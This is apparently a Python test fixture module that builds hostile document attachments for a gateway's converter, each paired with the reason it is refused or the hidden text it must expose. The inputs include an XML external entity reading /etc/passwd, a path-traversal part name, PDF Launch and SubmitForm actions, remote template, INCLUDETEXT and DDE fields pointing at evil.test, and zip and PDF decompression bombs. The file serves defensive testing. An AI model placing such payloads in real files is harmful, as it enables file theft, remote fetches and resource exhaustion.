"""Files that try to hide something, to do something, or to take all time or memory: each with what has to become of it.

A file is refused for one of the reasons, or converted with all of its text.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

import docx
import openpyxl
import pptx

from gateway.attachments.base import MOST_EXPANDED, Reason
from tests.gateway.attachments.documents import LANGUAGES, changed, odf, powerpoint, word, zipped
from tests.gateway.attachments.pdf_files import assembled, drawn, pdf, stream


class Hostile(NamedTuple):
    """A file, and either why it is refused or a text that is found in it."""

    name: str
    data: bytes
    expected: Reason | tuple[Reason, ...] | str


ENGLISH = LANGUAGES["en"]
LINE = [(50.0, 800.0, "visible")]
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _document(body: str, before: str = "") -> bytes:
    """Returns a Word document with this body."""
    xml = f'<?xml version="1.0"?>{before}<w:document {_W}><w:body>{body}</w:body></w:document>'
    return changed(word(ENGLISH), {"word/document.xml": xml.encode()})


def _run(text: str, properties: str = "") -> str:
    return f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


def _with_part(name: str, kind: str, content: bytes = b"x") -> bytes:
    return changed(word(ENGLISH), {name: content}, content_types=f'<Override PartName="/{name}" ContentType="{kind}"/>')


def _related(kind: str, target: str) -> bytes:
    """Returns a Word document that refers to something outside."""
    base = word(ENGLISH)
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        held = archive.read("word/_rels/document.xml.rels")
    where = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    entry = f'<Relationship Id="rX" Type="{where}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return changed(base, {"word/_rels/document.xml.rels": held.replace(b"</Relationships>", entry.encode())})


def _picture() -> bytes:
    made = docx.Document()
    dot = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (
            (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
            (b"IDAT", zlib.compress(b"\0\0")),
            (b"IEND", b""),
        )
    )
    made.add_picture(io.BytesIO(dot))
    return _bytes(made.save)


def _bytes(save: Callable[[io.BytesIO], object]) -> bytes:
    held = io.BytesIO()
    save(held)
    return held.getvalue()


def _hidden_sheet() -> bytes:
    made = openpyxl.Workbook()
    made.create_sheet("S").append(["secret sheet"])
    made["S"].sheet_state = "veryHidden"
    return _bytes(made.save)


def _far_cell() -> bytes:
    made = openpyxl.Workbook()
    made["Sheet"]["XFD1048576"] = "far away"
    return _bytes(made.save)


def _hidden_slide() -> bytes:
    made = pptx.Presentation(io.BytesIO(powerpoint(ENGLISH)))
    made.slides[0]._element.set("show", "0")
    return _bytes(made.save)


def _encrypted_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(io.BytesIO(pdf([LINE])))
    writer.encrypt("", "owner", algorithm="RC4-128")
    return _bytes(writer.write)


def _flagged(data: bytes) -> bytes:
    """Returns an archive whose first entry says that it is encrypted."""
    place = data.index(b"PK\x01\x02") + 8
    return data[:6] + b"\x01" + data[7:place] + b"\x01" + data[place + 1 :]


def _twice() -> bytes:
    held = io.BytesIO(word(ENGLISH))
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr("WORD/document.xml", b"<other/>")
    return held.getvalue()


def _overlapping() -> bytes:
    """Returns an archive whose entries share their data, as quines and bombs do."""
    held = bytearray(zipped({"a": b"x" * 1000, "b": b"x" * 1000}))
    second = held.index(b"PK\x01\x02", held.index(b"PK\x01\x02") + 1)
    held[second + 42 : second + 46] = (0).to_bytes(4, "little")
    return bytes(held)


def _bomb() -> bytes:
    return changed(word(ENGLISH), {"word/document.xml": b"<a>" + b" " * (MOST_EXPANDED + 1) + b"</a>"})


def _pages(count: int) -> bytes:
    kids = " ".join(["3 0 R"] * count)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    pages = f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode()
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page])


def _pdf_bomb() -> bytes:
    packed = zlib.compress(zlib.compress(b" " * 400_000_000, 9), 9)
    return pdf(
        [b"/X Do"],
        resources="/XObject << /X 10 0 R >>",
        more=[stream(packed, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Filter [/FlateDecode /FlateDecode]")],
    )


def _form(content: bytes) -> bytes:
    form = stream(
        content,
        "/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /Font << /F1 3 0 R >> "
        "/XObject << /X 10 0 R >> >>",
    )
    return pdf([b"/X Do " + drawn(LINE)], resources="/XObject << /X 10 0 R >>", more=[form])


def _mail(depth: int) -> bytes:
    message = b"From: a@acme.test\r\nContent-Type: text/plain; charset=utf-8\r\n\r\ndeep"
    for _ in range(depth):
        message = b"From: a@acme.test\r\nContent-Type: message/rfc822\r\n\r\n" + message
    return message


_LAYER: dict[str, Any] = {
    "catalog": "/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] >> >>",
    "more": [b"<< /Type /OCG /Name (x) >>"],
    "resources": "/Properties << /P 10 0 R >>",
}
_HIDDEN = [(50.0, 700.0, "hidden text")]
_DOT = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
_NOTE = b"<< /Subtype /Text /F 2 /Rect [0 0 9 9] /Contents (hidden text) >>"
_FIELD = b"<< /Subtype /Widget /FT /Tx /T (a) /V (hidden text) /Rect [0 0 9 9] >>"
_NAMED_SCRIPT = "/Names << /JavaScript << /Names [(a) << /JS (b) >>] >> >>"
_VIDEO = b"<< /Subtype /RichMedia /Rect [0 0 9 9] >>"
_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
_CONTROL = "application/vnd.ms-office.activeX+xml"
_DELETED = "<w:p><w:del><w:r><w:delText>hidden text</w:delText></w:r></w:del></w:p>"
_CURVES = b"0 0 m " + b"1 1 2 2 3 3 c " * 200 + b"f "
_INLINE = b"q 9 0 0 9 0 0 cm BI /W 1 /H 1 /CS /G /BPC 8 ID \x00 EI Q "
_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def hostile() -> dict[str, Hostile]:
    """Returns all files by name."""
    return {**_pdfs(), **_words(), **_others()}


def _pdfs() -> dict[str, Hostile]:
    def action(said: str) -> bytes:
        return pdf([LINE], catalog=f"/OpenAction << {said} >>")

    made: dict[str, tuple[bytes, Reason | tuple[Reason, ...] | str]] = {
        "encrypted": (_encrypted_pdf(), Reason.ENCRYPTED),
        "script": (action("/S /JavaScript /JS (app.alert)"), Reason.ACTIVE),
        "script in the names": (pdf([LINE], catalog=_NAMED_SCRIPT), Reason.ACTIVE),
        "program": (action("/S /Launch /F (a.exe)"), Reason.ACTIVE),
        "form that is sent": (action("/S /SubmitForm /F (https://evil.test)"), Reason.ACTIVE),
        "XFA form": (pdf([LINE], catalog="/AcroForm << /XFA (a) >>"), Reason.ACTIVE),
        "embedded file": (
            pdf(
                [LINE],
                catalog="/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>",
                more=[b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>", stream(b"MZ", "/Type /EmbeddedFile")],
            ),
            Reason.EMBEDDED,
        ),
        "portfolio": (pdf([LINE], catalog="/Collection << >>"), Reason.EMBEDDED),
        "video": (pdf([LINE], page="/Annots [10 0 R]", more=[_VIDEO]), Reason.EMBEDDED),
        "image": (
            pdf([b"/X Do " + drawn(LINE)], resources="/XObject << /X 10 0 R >>", more=[stream(b"\0", _DOT)]),
            Reason.IMAGE,
        ),
        "inline image": (pdf([_INLINE + drawn(LINE)]), Reason.IMAGE),
        "letters drawn as shapes": (pdf([_CURVES + drawn(LINE)]), Reason.IMAGE),
        "shapes alone": (pdf([b"0 0 9 9 re f"]), Reason.IMAGE),
        "font without characters": (pdf([LINE], to_unicode=False), Reason.UNREADABLE),
        "text of no colour": (pdf([drawn(_HIDDEN, mode=3) + drawn(LINE)]), "hidden text"),
        "white on white": (pdf([drawn(_HIDDEN, colour="1 g") + drawn(LINE)]), "hidden text"),
        "text beside the page": (pdf([drawn([(9000, 700, "hidden text")]) + drawn(LINE)]), "hidden text"),
        "layer that is off": (pdf([b"/OC /P BDC " + drawn(_HIDDEN) + b" EMC"], **_LAYER), "hidden text"),
        "text in a form": (_form(drawn([(50, 600, "hidden text")])), "hidden text"),
        "form in itself": (_form(b"/X Do " * 3), (Reason.MALFORMED, Reason.TOO_LARGE, Reason.TOO_SLOW)),
        "hidden note": (
            pdf([LINE], page="/Annots [10 0 R]", more=[_NOTE]),
            "hidden text",
        ),
        "field": (
            pdf([LINE], page="/Annots [10 0 R]", more=[_FIELD]),
            "hidden text",
        ),
        "too many pages": (_pages(5000), Reason.TOO_LARGE),
        "pages in themselves": (
            assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
            (Reason.MALFORMED, Reason.TOO_SLOW),
        ),
        "bomb": (_pdf_bomb(), (Reason.MALFORMED, Reason.TOO_SLOW, Reason.TOO_LARGE)),
        "archive after its end": (pdf([LINE]) + zipped({"a": b"b"}), Reason.MALFORMED),
        "program before its beginning": (b"MZ" + pdf([LINE]), Reason.MALFORMED),
        "cut off": (pdf([LINE])[:-40], Reason.MALFORMED),
    }
    return {f"pdf: {name}": Hostile("a.pdf", data, expected) for name, (data, expected) in made.items()}


def _words() -> dict[str, Hostile]:
    deep = "<w:p>" * 100_000 + "</w:p>" * 100_000
    entities = '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;&b;">]>'
    external = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
    chart = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    field = '<w:p><w:r><w:instrText>INCLUDETEXT "https://evil.test/a"</w:instrText></w:r></w:p>'
    made: dict[str, tuple[bytes, Reason | tuple[Reason, ...] | str]] = {
        "bomb": (_bomb(), Reason.TOO_LARGE),
        "entities": (_document("&d;", entities), Reason.ACTIVE),
        "external entity": (_document("&b;", external), Reason.ACTIVE),
        "deep": (_document(deep), Reason.MALFORMED),
        "macros": (_with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), Reason.ACTIVE),
        "document with macros": (_with_part("word/other.xml", _MACROS, b"<a/>"), Reason.ACTIVE),
        "control": (_with_part("word/activeX/activeX1.xml", _CONTROL), Reason.ACTIVE),
        "embedded file": (
            _with_part("word/embeddings/a.bin", _OBJECT),
            Reason.EMBEDDED,
        ),
        "chart": (_with_part("word/charts/chart1.xml", chart, b"<a/>"), Reason.IMAGE),
        "image": (_picture(), Reason.IMAGE),
        "unknown part": (_with_part("word/a.xml", "application/x-unknown+xml"), Reason.UNKNOWN_PART),
        "part without a type": (changed(word(ENGLISH), {"../../etc/passwd": b"x"}), Reason.UNKNOWN_PART),
        "text in an unknown element": (_document("<w:p><w:new>text</w:new></w:p>"), Reason.UNKNOWN_PART),
        "page from elsewhere": (_document('<w:altChunk r="a"/>'), Reason.EMBEDDED),
        "template from elsewhere": (_related("attachedTemplate", "https://evil.test/a.dotm"), Reason.ACTIVE),
        "picture from elsewhere": (_related("image", "https://evil.test/a.png"), Reason.EMBEDDED),
        "field that fetches": (_document(field), Reason.ACTIVE),
        "hidden": (_document(_run("hidden text", "<w:vanish/>")), "hidden text"),
        "white": (_document(_run("hidden text", '<w:color w:val="FFFFFF"/>')), "hidden text"),
        "deleted": (
            _document(_DELETED),
            "[deleted: hidden text]",
        ),
        "encrypted entries": (_flagged(word(ENGLISH)), Reason.ENCRYPTED),
        "encrypted": (_OLE + "EncryptedPackage".encode("utf-16-le"), Reason.ENCRYPTED),
        "old": (_OLE, Reason.UNKNOWN_KIND),
        "two of a name": (_twice(), Reason.MALFORMED),
        "entries that overlap": (_overlapping(), Reason.MALFORMED),
        "program before its beginning": (b"MZ" + word(ENGLISH), Reason.MALFORMED),
        "PDF instead": (pdf([LINE]), Reason.MALFORMED),
    }
    return {f"docx: {name}": Hostile("a.docx", data, expected) for name, (data, expected) in made.items()}


def _others() -> dict[str, Hostile]:
    cell = "<table:table-cell{}><text:p>x</text:p></table:table-cell>"
    many = f'<table:table-row table:number-rows-repeated="1048576">{cell.format("")}</table:table-row>'
    wide = f"<table:table-row>{cell.format(' table:number-columns-repeated="1048576"')}</table:table-row>"
    sheet = '<office:spreadsheet><table:table table:name="T">{}</table:table></office:spreadsheet>'
    text = "<office:text><text:p>a</text:p></office:text>"
    smime = b"From: a@acme.test\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nx"
    attached = (
        b"From: a@acme.test\r\nMIME-Version: 1.0\r\nContent-Type: application/zip; name=a.zip\r\n"
        b"Content-Disposition: attachment; filename=a.zip\r\n\r\nPK"
    )
    return {
        "xlsx: very hidden sheet": Hostile("a.xlsx", _hidden_sheet(), "secret sheet"),
        "xlsx: far cell": Hostile("a.xlsx", _far_cell(), "far away"),
        "pptx: hidden slide": Hostile("a.pptx", _hidden_slide(), ENGLISH.title),
        "ods: rows without end": Hostile("a.ods", odf(sheet.format(many), "spreadsheet"), Reason.TOO_LARGE),
        "ods: columns without end": Hostile("a.ods", odf(sheet.format(wide), "spreadsheet"), Reason.TOO_LARGE),
        "odt: macros": Hostile("a.odt", odf(text, beside={"Basic/Standard/a.xml": b"<a/>"}), Reason.ACTIVE),
        "odt: object": Hostile("a.odt", odf(text, beside={"Object 1/content.xml": b"<a/>"}), Reason.EMBEDDED),
        "odt: picture": Hostile("a.odt", odf(text, beside={"Pictures/a.png": b"x"}), Reason.IMAGE),
        "odt: encrypted": Hostile("a.odt", odf(text, manifest="<manifest:encryption-data/>"), Reason.ENCRYPTED),
        "html: script": Hostile("a.html", b"<p>a<script>b</script>", Reason.ACTIVE),
        "html: handler": Hostile("a.html", b"<p onclick=a()>a", Reason.ACTIVE),
        "html: frame": Hostile("a.html", b"<iframe src=https://evil.test></iframe>", Reason.EMBEDDED),
        "html: image": Hostile("a.html", b'<img src="data:image/png;base64,AA">', Reason.IMAGE),
        "html: hidden": Hostile("a.html", b'<p style="display:none">hidden text</p>', "hidden text"),
        "html: comment": Hostile("a.html", b"<p>a<!-- hidden text -->", "hidden text"),
        "html: deep": Hostile("a.html", b"<div>" * 100_000, Reason.MALFORMED),
        "html: text of a style": Hostile("a.html", b"<style>p:after{content:'b'}</style><p>a", Reason.UNKNOWN_PART),
        "rtf: object": Hostile("a.rtf", rb"{\rtf1 a{\object{\objdata 00}}}", Reason.EMBEDDED),
        "rtf: picture": Hostile("a.rtf", rb"{\rtf1 a{\pict 00}}", Reason.IMAGE),
        "rtf: field that fetches": Hostile("a.rtf", rb'{\rtf1{\field{\*\fldinst DDE "a"}}}', Reason.ACTIVE),
        "rtf: unknown destination": Hostile("a.rtf", rb"{\rtf1 a{\*\new text}}", Reason.UNKNOWN_PART),
        "rtf: hidden": Hostile("a.rtf", rb"{\rtf1 a{\v hidden text}}", "hidden text"),
        "rtf: deep": Hostile("a.rtf", rb"{\rtf1 " + b"{" * 100_000, Reason.MALFORMED),
        "eml: deep": Hostile("a.eml", _mail(12), (Reason.EMBEDDED, Reason.MALFORMED)),
        "eml: encrypted": Hostile("a.eml", smime, Reason.ENCRYPTED),
        "eml: archive": Hostile("a.eml", attached, Reason.UNKNOWN_KIND),
        "csv: binary": Hostile("a.csv", b"a;b\0", Reason.MALFORMED),
        "txt: unknown encoding": Hostile("a.txt", "Größe".encode("latin-1"), Reason.ENCODING),
        "txt: huge": Hostile("a.txt", b"a" * 9_000_000, Reason.TOO_LARGE),
    }
